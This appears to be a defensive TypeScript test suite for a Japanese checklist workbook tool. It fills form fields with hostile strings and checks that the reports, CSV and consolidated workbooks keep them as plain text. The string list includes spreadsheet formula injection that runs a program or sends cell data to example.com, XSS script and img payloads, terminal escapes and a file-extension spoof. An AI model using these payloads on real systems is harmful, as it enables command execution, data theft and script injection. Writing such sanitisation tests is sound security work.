import { defaultEditionId, editionOf } from '../../src/editions/index.js';
import type { FormContents } from '../../src/form/index.js';
import { fillForm } from '../../src/form/index.js';
import type { Arrival } from '../../src/consolidation/index.js';
import { arrivalOf, consolidate } from '../../src/consolidation/index.js';
import { annotated, blankTemplate, receive } from '../../src/jobs/index.js';
import {
  consolidatedBook,
  consolidateText,
  datasetCsv,
  publishedBook,
  validateHtml,
  validateJson,
  validateText,
} from '../../src/report/index.js';
import { samplePopulation } from '../../src/samples/index.js';
import { bookBytes, patchWorkbook, readWorkbook } from '../../src/workbook/ooxml/index.js';
import { partsOf } from '../workbook/ooxml/package-of.js';

const edition = editionOf(defaultEditionId)!;
const blank = blankTemplate(edition);
const [sample] = samplePopulation(edition, 'one', 1);
const today = '2023-10-01';

/** Texts that do something when a program takes them for more than a text. */
const texts: readonly (readonly [what: string, text: string])[] = [
  ['a formula', '=1+1'],
  ['a formula that calls a program', "=cmd|' /C calc'!A0"],
  ['a formula that calls home', '=WEBSERVICE("http://example.com/?"&A1)'],
  ['a link', '=HYPERLINK("http://example.com","詳細")'],
  ['a plus sign', '+81-3-0000-0000'],
  ['a minus sign', '-2+3+cmd'],
  ['an at sign', '@SUM(1+1)*cmd'],
  ['a full-width equals sign', '＝1+1'],
  ['a tab before a formula', '\t=1+1'],
  ['a line break before a formula', '\n=1+1'],
  ['quotes and commas before a formula', '","=1+1","'],
  ['a script', '<script>alert(1)</script>'],
  ['an image that fails', '"><img src=x onerror=alert(1)>'],
  ['a style that ends', '</style><script>alert(1)</script>'],
  ['an entity', '&lt;b&gt; &#60;i&#62;'],
  ['the end of a CDATA section', ']]><x/>'],
  ['a placeholder of a message', '{found} {question} {{x}}'],
  ['a placeholder of a replacement', '$& $1 $$'],
  ['the name of a prototype', '__proto__'],
  ['a command to the terminal', '\u001b[31mred\u001b]0;title\u0007'],
  ['a direction override', 'サンプル\u202exslx.exe'],
  ['half a surrogate pair', 'サンプル\ud83d保険'],
  ['an escape of Excel', '_x000D_ _xD83D_'],
  ['a nul character', 'a\u0000b'],
  ['a cell that is full', '長'.repeat(32_767)],
];

/** A checklist in which every free text is this one. */
function checklistWith(text: string, code = 'SL-0001'): Uint8Array {
  const { contents } = sample!;
  const everywhere = (record: Readonly<Record<string, string>> = {}) =>
    Object.fromEntries([...Object.keys(record), 'q01', 'q05'].map((key) => [key, text]));
  const hostile: FormContents = {
    ...contents,
    cover: { ...contents.cover, code, name: text, contact: text, preparedBy: text, checkedBy: text, approvedBy: text },
    comments: everywhere(contents.comments),
    otherTexts: Object.fromEntries(Object.keys(contents.otherTexts ?? {}).map((key) => [key, text])),
    explanations: [{ rule: 'L35', text, author: text, date: text }],
  };
  return patchWorkbook(blank, fillForm(edition, hostile));
}

function consolidatedFrom(arrivals: readonly Arrival[]) {
  const consolidation = consolidate(edition, arrivals);
  return { consolidation, book: bookBytes(consolidatedBook(consolidation, { created: `${today}T00:00:00Z` })) };
}

/** Formulas of a file, as they stand in its parts. */
function formulasOf(bytes: Uint8Array): string[] {
  return [...partsOf(bytes).values()].flatMap((part) => part.match(/<(?:\w+:)?f[ >][^<]*/g) ?? []);
}

describe.each(texts)('%s as every free text of a checklist', (_, text) => {
  const bytes = checklistWith(text);
  const received = receive(`${text.slice(0, 20)}.xlsx`, bytes, { edition, today });
  if ('refused' in received) throw received.refused;
  const { submission } = received;
  const report = { engine: 'Tenken', files: [{ file: submission.file, edition, submission }] };

  test('is a text in the checklist and in its copy with marks', () => {
    expect(submission.reading.comments['q01']).toBeTruthy();
    const before = formulasOf(blank);
    expect(formulasOf(bytes)).toEqual(before);
    const copy = annotated(edition, bytes, submission);
    expect(formulasOf(copy)).toEqual(before);
    expect(receive('copy.xlsx', copy, { edition, today })).toHaveProperty('submission');
  });

  test('does nothing in a terminal, in a page or in JSON', () => {
    for (const language of ['ja', 'en'] as const) {
      expect(validateText(report, language)).not.toMatch(
        /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\ud800-\udfff]/u,
      );
      const page = validateHtml(report, language);
      expect(page).not.toMatch(/<script|<img|\u202e/i);
      expect(page.match(/<style/g)).toHaveLength(1);
      const json = validateJson(report, language);
      expect(JSON.parse(JSON.stringify(json))).toEqual(json);
    }
  });
});

test('all of them together are texts in the consolidated book, in CSV, and nowhere in the published book', () => {
  const arrivals = (text?: string) =>
    texts.map(([, own], place) => {
      const code = `SL-${String(place + 1).padStart(4, '0')}`;
      const received = receive(`${code}.xlsx`, checklistWith(text ?? own, code), { edition, today });
      return arrivalOf(edition, received);
    });
  const { consolidation, book } = consolidatedFrom(arrivals());
  expect(consolidation.intake.accepted).toHaveLength(texts.length);
  expect(formulasOf(book)).toEqual(formulasOf(consolidatedFrom(arrivals('特になし')).book));
  for (const [name, part] of partsOf(book)) {
    expect([name, /<!DOCTYPE|TargetMode="External"|ddeLink/.test(part)]).toEqual([name, false]);
  }
  expect(readWorkbook(book, { profile: 'book' }).sheets.length).toBeGreaterThan(20);
  for (const piece of datasetCsv(consolidation.dataset)) {
    expect(piece).not.toMatch(/(^|[\r\n,])"?[=+\-@＝＋－＠\t]/);
  }
  expect(consolidateText(consolidation, 'out.xlsx', 'ja')).not.toMatch(
    /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/,
  );
  const published = [...partsOf(bookBytes(publishedBook(consolidation, { created: `${today}T00:00:00Z` }))).values()];
  for (const [, text] of texts) {
    const marker = text.slice(0, 12).replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    if (marker.length > 6) for (const part of published) expect(part).not.toContain(marker);
  }
});
